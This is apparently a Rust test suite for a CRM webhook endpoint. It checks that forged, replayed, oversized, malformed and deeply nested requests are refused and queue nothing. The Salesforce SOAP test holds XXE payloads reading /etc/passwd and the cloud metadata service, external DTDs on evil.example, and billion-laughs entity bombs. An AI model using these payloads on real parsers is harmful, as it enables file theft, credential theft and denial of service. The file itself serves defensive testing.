//! Hostile webhook requests, for every kind of verification and parser the endpoint has: each
//! attack gets its 4xx and queues nothing (issue 8, "Bad input and attacks"). Where
//! `webhook_requests.rs` shows one example of each refusal, this file runs every attack against
//! every source kind, each time with an otherwise valid request, so a refusal can only come from
//! the attack itself.
//!
//! Kinds: our signed contract (Salesforce Apex, ServiceNow business rules, home-grown CRMs),
//! HubSpot v3 signatures, Zendesk signatures, Pipedrive Basic auth, and Salesforce Outbound
//! Messages (SOAP, verified by organization id).

use std::sync::Arc;

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use dataverse::Secret;
use hmac::Mac;
use mapping::{CrmKind, IdentityStrategy, SourceConfig, SourceId};
use pipeline::sources::Sources;
use pipeline::webhook::{WebhookAuth, WebhookPorts, WebhookRequest, handle_request};
use pipeline::{MemoryQueue, MemoryQueueConfig};
use serde_json::json;

const NOW_MS: i64 = 1_700_000_000_000;
const ORG: &str = "00D000000000062EAA";
const HS_URL: &str = "https://hooks.example.com/webhooks/hs";
const MIB: usize = 1024 * 1024;

fn sources() -> Sources {
    let src = |id: &str, kind| {
        let mut c = SourceConfig::new(SourceId::new(id).unwrap(), kind, "https://acme.example.com");
        c.crm_choice.get_or_insert(1);
        c.vars.insert("portal_id".into(), "62515".into());
        c
    };
    let mut generic = src("gen", CrmKind::Generic);
    generic.mapping = toml::from_str(
        "[account]\nid = \"/uid\"\n[account.columns]\nname = \"/title\"\n[contact]\nid = \"/uid\"\n[contact.columns]\nlastname = \"/family\"\n",
    )
    .unwrap();
    let cfgs = vec![
        src("sf-apex", CrmKind::Salesforce),
        src("sn", CrmKind::Servicenow),
        generic,
        src("hs", CrmKind::Hubspot),
        src("zd", CrmKind::Zendesk),
        src("pd", CrmKind::Pipedrive),
        src("sf-om", CrmKind::Salesforce),
    ];
    let mut s = Sources::new(&cfgs, IdentityStrategy::DeterministicId).unwrap();
    let id = |s: &str| SourceId::new(s).unwrap();
    for (source, secret) in [
        ("sf-apex", "apex-secret"),
        ("sn", "sn-secret"),
        ("gen", "gen-secret"),
    ] {
        s.set_webhook(
            &id(source),
            WebhookAuth::Contract {
                secret: Secret::new(secret),
            },
        );
    }
    s.set_webhook(
        &id("hs"),
        WebhookAuth::Hubspot {
            secret: Secret::new("hs-secret"),
            public_url: HS_URL.into(),
        },
    );
    s.set_webhook(
        &id("zd"),
        WebhookAuth::Zendesk {
            secret: Secret::new("zd-secret"),
        },
    );
    s.set_webhook(
        &id("pd"),
        WebhookAuth::Basic {
            user: "pipedrive".into(),
            password: Secret::new("pd-password"),
        },
    );
    s.set_webhook(
        &id("sf-om"),
        WebhookAuth::SalesforceOutbound {
            organization_id: ORG.into(),
        },
    );
    s
}

/// How a source's requests are signed: the headers that make `body` authentic for `source`,
/// signed with `secret` at `now_ms` (the caller picks a wrong secret or time for an attack).
#[derive(Clone, Copy)]
enum Signer {
    Contract(&'static str),
    Hubspot(&'static str),
    Zendesk(&'static str),
    Basic(&'static str),
}

fn hmac_b64(secret: &str, parts: &[&[u8]]) -> String {
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret.as_bytes()).unwrap();
    for p in parts {
        mac.update(p);
    }
    B64.encode(mac.finalize().into_bytes())
}

/// Zendesk's timestamp header is ISO 8601.
fn iso(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .unwrap()
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
}

impl Signer {
    fn headers(self, body: &[u8], now_ms: i64) -> Vec<(String, String)> {
        let h = |k: &str, v: String| (k.to_string(), v);
        match self {
            Signer::Contract(secret) => {
                let ts = (now_ms / 1000).to_string();
                let sig = webhook::verify::contract_signature(secret, &ts, body);
                vec![h("x-crmsync-timestamp", ts), h("x-crmsync-signature", sig)]
            }
            Signer::Hubspot(secret) => {
                let ts = now_ms.to_string();
                let sig = hmac_b64(secret, &[b"POST", HS_URL.as_bytes(), body, ts.as_bytes()]);
                vec![
                    h("x-hubspot-signature-v3", sig),
                    h("x-hubspot-request-timestamp", ts),
                ]
            }
            Signer::Zendesk(secret) => {
                let ts = iso(now_ms);
                let sig = hmac_b64(secret, &[ts.as_bytes(), body]);
                vec![
                    h("x-zendesk-webhook-signature", sig),
                    h("x-zendesk-webhook-signature-timestamp", ts),
                ]
            }
            Signer::Basic(password) => vec![h(
                "authorization",
                format!("Basic {}", B64.encode(format!("pipedrive:{password}"))),
            )],
        }
    }
}

/// A JSON source: its name, how it signs, a valid notification that queues something, and
/// another source's signer (same mechanism, other secret).
struct JsonSource {
    name: &'static str,
    signer: Signer,
    other: Signer,
    body: Vec<u8>,
}

fn json_sources() -> Vec<JsonSource> {
    let contract = |entity: &str, id: &str, record: serde_json::Value| {
        json!({"entity": entity, "operation": "update", "id": id,
               "modified_at": "2023-11-14T22:13:20Z", "record": record})
        .to_string()
        .into_bytes()
    };
    vec![
        JsonSource {
            name: "sf-apex",
            signer: Signer::Contract("apex-secret"),
            other: Signer::Contract("sn-secret"),
            body: contract(
                "account",
                "001D000000IRFmaIAH",
                json!({"attributes": {"type": "Account"}, "Id": "001D000000IRFmaIAH", "Name": "Acme"}),
            ),
        },
        JsonSource {
            name: "sn",
            signer: Signer::Contract("sn-secret"),
            other: Signer::Contract("apex-secret"),
            body: contract(
                "account",
                "a1",
                json!({"sys_id": "a1", "name": "Acme", "sys_updated_on": "2023-11-14 22:13:20"}),
            ),
        },
        JsonSource {
            name: "gen",
            signer: Signer::Contract("gen-secret"),
            other: Signer::Contract("sn-secret"),
            body: contract("account", "c-1", json!({"uid": "c-1", "title": "Acme"})),
        },
        JsonSource {
            name: "hs",
            signer: Signer::Hubspot("hs-secret"),
            other: Signer::Hubspot("another-app-secret"),
            body: json!([{"eventId": 1, "portalId": 62515, "occurredAt": 1_699_999_990_000_i64,
                "subscriptionType": "contact.creation", "objectId": 123}])
            .to_string()
            .into_bytes(),
        },
        JsonSource {
            name: "zd",
            signer: Signer::Zendesk("zd-secret"),
            other: Signer::Zendesk("another-zd-secret"),
            body: json!({"id": "01HXYZ", "type": "zen:event-type:user.created",
                "time": "2023-11-14T22:13:20Z",
                "detail": {"id": "7", "name": "Ann Ng", "updated_at": "2023-11-14T22:13:20Z"}})
            .to_string()
            .into_bytes(),
        },
        JsonSource {
            name: "pd",
            signer: Signer::Basic("pd-password"),
            other: Signer::Basic("another-password"),
            body: json!({"meta": {"action": "delete", "entity": "person", "entity_id": "9",
                "id": "b1", "timestamp": "2023-11-14T22:13:20.000Z", "version": "2.0"},
                "data": null, "previous": {"id": 9}})
            .to_string()
            .into_bytes(),
        },
    ]
}

struct Endpoint {
    sources: Sources,
    upsert: Arc<MemoryQueue>,
    sync: Arc<MemoryQueue>,
    dlq: Arc<MemoryQueue>,
}

impl Endpoint {
    fn new() -> Self {
        let q = |n: &str| Arc::new(MemoryQueue::new(n, MemoryQueueConfig::default(), None));
        Endpoint {
            sources: sources(),
            upsert: q("upsert"),
            sync: q("sync"),
            dlq: q("dlq"),
        }
    }

    fn queued(&self) -> usize {
        self.upsert.len() + self.sync.len() + self.dlq.len()
    }

    /// One request; returns the status and the response body.
    async fn post(
        &self,
        source: &str,
        content_type: Option<&str>,
        mut headers: Vec<(String, String)>,
        body: &[u8],
    ) -> (u16, String) {
        if let Some(ct) = content_type {
            headers.push(("content-type".into(), ct.into()));
        }
        let metrics = pipeline::Metrics::new();
        // No recent-events memory: a refusal must not depend on having seen the event before.
        let ports = WebhookPorts {
            metrics: &metrics,
            sources: &self.sources,
            upsert: self.upsert.as_ref(),
            sync: self.sync.as_ref(),
            dlq: self.dlq.as_ref(),
            recent: None,
        };
        let req = WebhookRequest {
            method: "POST",
            query: None,
            headers: &headers,
            body,
        };
        let r = handle_request(source, &req, "corr-attack", &ports, NOW_MS).await;
        (r.status, r.body)
    }
}

/// `body` with `byte` inserted before the last occurrence of `before`.
fn with_byte_before_last(body: &[u8], before: u8, byte: u8) -> Vec<u8> {
    let at = body.iter().rposition(|b| *b == before).unwrap();
    let mut out = body.to_vec();
    out.insert(at, byte);
    out
}

/// `text` with the first `from` replaced by bytes that need not be UTF-8.
fn replaced(text: &str, from: &str, to: &[u8]) -> Vec<u8> {
    let at = text.find(from).unwrap();
    [
        &text.as_bytes()[..at],
        to,
        &text.as_bytes()[at + from.len()..],
    ]
    .concat()
}

/// Nested `depth` deep: arrays, or objects under a key the parsers read.
fn nested(depth: usize, object: bool) -> Vec<u8> {
    if object {
        format!("{}1{}", "{\"record\":".repeat(depth), "}".repeat(depth)).into_bytes()
    } else {
        [vec![b'['; depth], vec![b']'; depth]].concat()
    }
}

#[tokio::test]
async fn every_attack_on_every_json_source_gets_its_4xx_and_queues_nothing() {
    let json = Some("application/json");
    for s in json_sources() {
        let ep = Endpoint::new();
        // The control: the same request, untouched, is accepted and queues something.
        let (status, body) = ep
            .post(s.name, json, s.signer.headers(&s.body, NOW_MS), &s.body)
            .await;
        assert_eq!(status, 202, "{}: the valid request: {body}", s.name);
        assert!(
            ep.queued() > 0,
            "{}: the valid request queued nothing",
            s.name
        );

        let ep = Endpoint::new();
        let signed = |body: &[u8]| s.signer.headers(body, NOW_MS);
        let mut tampered = s.body.clone();
        tampered.push(b' ');
        let replay_at = NOW_MS - 6 * 60 * 1000;
        let oversized = [s.body.clone(), vec![b' '; MIB + 1 - s.body.len()]].concat();
        // Invalid UTF-8 inside a JSON string: 0xFF before the body's last closing quote.
        let bad_utf8 = with_byte_before_last(&s.body, b'"', 0xFF);
        let xml_bomb = br#"<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>"#;
        // (what, content type, headers, body, expected status)
        type Case<'a> = (
            &'a str,
            Option<&'a str>,
            Vec<(String, String)>,
            Vec<u8>,
            u16,
        );
        let mut cases: Vec<Case> = vec![
            ("unsigned", json, vec![], s.body.clone(), 401),
            (
                "signed for another source",
                json,
                s.other.headers(&s.body, NOW_MS),
                s.body.clone(),
                401,
            ),
            (
                "oversized, validly signed",
                json,
                signed(&oversized),
                oversized.clone(),
                413,
            ),
            (
                "oversized, unsigned",
                json,
                vec![],
                vec![b'['; 4 * MIB],
                413,
            ),
            (
                "wrong content type",
                Some("text/plain"),
                signed(&s.body),
                s.body.clone(),
                415,
            ),
            (
                "form content type",
                Some("application/x-www-form-urlencoded"),
                signed(&s.body),
                s.body.clone(),
                415,
            ),
            (
                "no content type",
                None,
                signed(&s.body),
                s.body.clone(),
                415,
            ),
            (
                "XML with entity expansion, as XML",
                Some("application/xml"),
                signed(xml_bomb),
                xml_bomb.to_vec(),
                415,
            ),
            (
                "XML with entity expansion, as JSON",
                json,
                signed(xml_bomb),
                xml_bomb.to_vec(),
                400,
            ),
            (
                "invalid UTF-8, validly signed",
                json,
                signed(&bad_utf8),
                bad_utf8.clone(),
                400,
            ),
            (
                "a lone invalid byte, validly signed",
                json,
                signed(&[0xC3, 0x28]),
                vec![0xC3, 0x28],
                400,
            ),
        ];
        for (what, object) in [
            ("arrays nested 200,000 deep, validly signed", false),
            ("objects nested 80,000 deep, validly signed", true),
        ] {
            // Under the size limit, so the depth limit is what refuses them.
            let deep = nested(if object { 80_000 } else { 200_000 }, object);
            cases.push((what, json, signed(&deep), deep, 400));
        }
        // A changed body and a replay outside the window: only signatures over the body and a
        // timestamp can tell; Basic credentials cannot (Pipedrive's webhooks offer nothing
        // else; its replays are absorbed by meta.id deduplication and idempotent upserts).
        if !matches!(s.signer, Signer::Basic(_)) {
            cases.push((
                "signature of another body",
                json,
                signed(&s.body),
                tampered.clone(),
                401,
            ));
            cases.push((
                "replayed 6 minutes later",
                json,
                s.signer.headers(&s.body, replay_at),
                s.body.clone(),
                401,
            ));
            cases.push((
                "signed 6 minutes in the future",
                json,
                s.signer.headers(&s.body, NOW_MS + 6 * 60 * 1000),
                s.body.clone(),
                401,
            ));
        }
        for (what, ct, headers, body, want) in cases {
            let (status, answer) = ep.post(s.name, ct, headers, &body).await;
            assert_eq!(status, want, "{}: {what}: {answer}", s.name);
            assert_eq!(ep.queued(), 0, "{}: {what} queued something", s.name);
            assert!(
                !answer.contains("secret") && !answer.contains("password"),
                "{}: {what}: the answer mentions a secret: {answer}",
                s.name
            );
        }
    }
}

/// A Salesforce outbound message with `org` and `name` as the account's name.
fn outbound(org: &str, name: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">
  <OrganizationId>{org}</OrganizationId><ActionId>04k000000000001AAA</ActionId>
  <Notification><Id>04l000000000001AAA</Id>
   <sObject xsi:type="sf:Account" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
    <sf:Id>001D000000IRFmaIAH</sf:Id><sf:Name>{name}</sf:Name>
   </sObject></Notification>
 </notifications></soapenv:Body></soapenv:Envelope>"#
    )
}

#[tokio::test]
async fn every_attack_on_the_salesforce_outbound_message_endpoint_queues_nothing() {
    let xml = Some("text/xml; charset=utf-8");
    let ep = Endpoint::new();
    let good = outbound(ORG, "Acme");
    let (status, body) = ep.post("sf-om", xml, vec![], good.as_bytes()).await;
    assert_eq!(status, 200, "the valid message: {body}");
    assert!(ep.queued() > 0);

    let ep = Endpoint::new();
    let with_doctype = |doctype: &str, name: &str| {
        good.replacen(
            "<soapenv:Envelope",
            &format!("{doctype}<soapenv:Envelope"),
            1,
        )
        .replacen("<sf:Name>Acme", &format!("<sf:Name>{name}"), 1)
    };
    let laughs = (1..10).fold(String::from("<!ENTITY l0 \"lol\">"), |acc, i| {
        format!(
            "{acc}<!ENTITY l{i} \"{}\">",
            format!("&l{};", i - 1).repeat(10)
        )
    });
    let mut deep = good.clone();
    deep.insert_str(
        deep.find("<sf:Name>").unwrap(),
        &format!("{}{}", "<x>".repeat(100_000), "</x>".repeat(100_000)),
    );
    let bad_utf8 = replaced(&good, "Acme", b"Ac\xffme");
    let bad_cdata = replaced(&good, "Acme", b"<![CDATA[Ac\xc3me]]>");
    let oversized = good.replacen("Acme", &"A".repeat(MIB), 1);
    // (what, content type, body, expected status)
    let cases: Vec<(&str, Option<&str>, Vec<u8>, u16)> = vec![
        (
            "external entity (file)",
            xml,
            with_doctype(
                r#"<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
                "&x;",
            )
            .into_bytes(),
            400,
        ),
        (
            "external entity (the cloud metadata service)",
            xml,
            with_doctype(
                r#"<!DOCTYPE e [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>"#,
                "&x;",
            )
            .into_bytes(),
            400,
        ),
        (
            "external DTD",
            xml,
            with_doctype(r#"<!DOCTYPE e SYSTEM "http://evil.example/e.dtd">"#, "Acme").into_bytes(),
            400,
        ),
        (
            "parameter entity",
            xml,
            with_doctype(
                r#"<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>"#,
                "Acme",
            )
            .into_bytes(),
            400,
        ),
        (
            "billion laughs",
            xml,
            with_doctype(&format!("<!DOCTYPE l [{laughs}]>"), "&l9;").into_bytes(),
            400,
        ),
        (
            "an undeclared entity",
            xml,
            good.replacen("Acme", "&x;", 1).into_bytes(),
            400,
        ),
        ("nested 100,000 deep", xml, deep.into_bytes(), 400),
        ("invalid UTF-8 in text", xml, bad_utf8, 400),
        ("invalid UTF-8 in CDATA", xml, bad_cdata, 400),
        ("oversized", xml, oversized.into_bytes(), 413),
        (
            "wrong content type",
            Some("application/json"),
            good.clone().into_bytes(),
            415,
        ),
        ("no content type", None, good.clone().into_bytes(), 415),
        (
            "another org's message",
            xml,
            outbound("00D000000000999AAA", "Acme").into_bytes(),
            401,
        ),
        (
            "no org at all",
            xml,
            good.replacen(ORG, "", 1).into_bytes(),
            400,
        ),
        ("JSON as XML", xml, b"{\"Id\": \"001\"}".to_vec(), 400),
    ];
    for (what, ct, body, want) in cases {
        let (status, answer) = ep.post("sf-om", ct, vec![], &body).await;
        assert_eq!(status, want, "{what}: {answer}");
        assert_eq!(ep.queued(), 0, "{what} queued something");
        assert!(
            !answer.contains("passwd") && !answer.contains("root:"),
            "{what}: {answer}"
        );
    }
}
